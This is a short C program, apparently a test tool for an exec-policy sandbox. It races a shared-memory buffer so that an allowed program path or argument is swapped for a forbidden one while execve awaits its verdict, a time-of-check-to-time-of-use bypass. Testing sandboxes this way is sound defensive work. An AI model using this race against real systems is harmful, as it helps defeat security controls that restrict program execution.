/*
 * Tries to run one program by asking for another: while an execve waits for its verdict, a second process that
 * shares the memory writes the other path, or the other argument, in its place.
 * usage: race ATTEMPTS path|argument ALLOWED FORBIDDEN ARGUMENT…
 */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    char *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (shared == MAP_FAILED) return 2;
    const char *allowed = argv[3], *forbidden = argv[4];
    strcpy(shared, allowed);
    pid_t flipper = fork();
    if (flipper == 0) {
        for (unsigned round = 0;; round++) {
            memcpy(shared, forbidden, strlen(forbidden) + 1);
            for (volatile unsigned i = 0; i < round % 2000; i++) continue;
            memcpy(shared, allowed, strlen(allowed) + 1);
            for (volatile unsigned i = 0; i < round % 3000; i++) continue;
        }
    }
    int races_path = strcmp(argv[2], "path") == 0;
    for (int attempt = 0; attempt < atoi(argv[1]); attempt++) {
        pid_t child = fork();
        if (child == 0) {
            if (races_path) {
                argv[4] = "program";
                execv(shared, argv + 4);
            } else {
                char *words[] = {argv[5], shared, NULL};
                execv(argv[5], words);
            }
            _exit(126);
        }
        waitpid(child, NULL, 0);
    }
    kill(flipper, 9);
    return 0;
}
